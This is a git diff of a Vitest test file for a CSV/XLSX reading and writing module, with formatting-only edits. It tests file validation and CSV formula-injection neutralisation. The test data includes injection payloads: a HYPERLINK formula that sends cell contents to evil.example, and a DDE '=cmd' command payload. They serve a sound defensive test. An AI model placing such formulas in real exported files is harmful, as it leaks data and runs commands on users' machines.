@@ -4,7 +4,7 @@ import { describe, expect, it } from "vitest";
 import { isAppError } from "./errors";
 import { neutralizeFormula, readTabular, restoreNeutralized, writeCsv } from "./tabular.server";
 
-const csv = "協定名,締結先,締結日\r\n㈱髙橋①商事との協定,\"髙橋①商事、金沢大学\",令和5年4月1日\r\n,,\r\n\"二行の\n名称\",相手,2023/4/1\r\n";
+const csv = '協定名,締結先,締結日\r\n㈱髙橋①商事との協定,"髙橋①商事、金沢大学",令和5年4月1日\r\n,,\r\n"二行の\n名称",相手,2023/4/1\r\n';
 
 async function fieldErrorOf(p: Promise<unknown>): Promise<string> {
   try {
@@ -55,7 +55,9 @@ describe("readTabular", () => {
     expect(await fieldErrorOf(readTabular(Buffer.from("協定名\r\n"), "a.csv"))).toBe("file:validation.tabular.empty");
     expect(await fieldErrorOf(readTabular(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0, 0]), "old.xls"))).toBe("file:validation.tabular.type");
     expect(await fieldErrorOf(readTabular(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0]), "x.png"))).toBe("file:validation.tabular.type");
-    expect(await fieldErrorOf(readTabular(Buffer.from([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]), "broken.xlsx"))).toBe("file:validation.tabular.unreadable");
+    expect(await fieldErrorOf(readTabular(Buffer.from([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]), "broken.xlsx"))).toBe(
+      "file:validation.tabular.unreadable",
+    );
     expect(await fieldErrorOf(readTabular(Buffer.from('a,b\r\n"unclosed,1\r\n'), "a.csv"))).toBe("file:validation.tabular.unreadable");
     const many = `見出し\r\n${"行\r\n".repeat(10_001)}`;
     expect(await fieldErrorOf(readTabular(Buffer.from(many), "a.csv"))).toBe("file:validation.tabular.tooManyRows");
@@ -63,13 +65,25 @@ describe("readTabular", () => {
 });
 
 describe("writeCsv (CSV formula injection)", () => {
-  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+81-3-1234", "-2+3", "@SUM(A1:A2)", "\tindent", "\rreturn", "=cmd|' /C calc'!A0"];
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
+    "+81-3-1234",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tindent",
+    "\rreturn",
+    "=cmd|' /C calc'!A0",
+  ];
 
   it("prefixes every cell that starts with = + - @ TAB or CR with a single quote, and nothing else", () => {
     for (const cell of hostile) expect(neutralizeFormula(cell)).toBe(`'${cell}`);
     for (const cell of ["協定", "", "a=b", "'quoted", "010006", "2026-04-01", "＝全角"]) expect(neutralizeFormula(cell)).toBe(cell);
     const text = writeCsv([["名称"], ...hostile.map((c) => [c])], "utf-8").toString("utf8");
-    for (const line of text.replace(/^\uFEFF/, "").split("\r\n").slice(1, -1)) expect(line).toMatch(/^"?'/);
+    for (const line of text
+      .replace(/^\uFEFF/, "")
+      .split("\r\n")
+      .slice(1, -1))
+      expect(line).toMatch(/^"?'/);
   });
 
   it("reads its own CSV back unchanged, in UTF-8 and Shift_JIS", async () => {
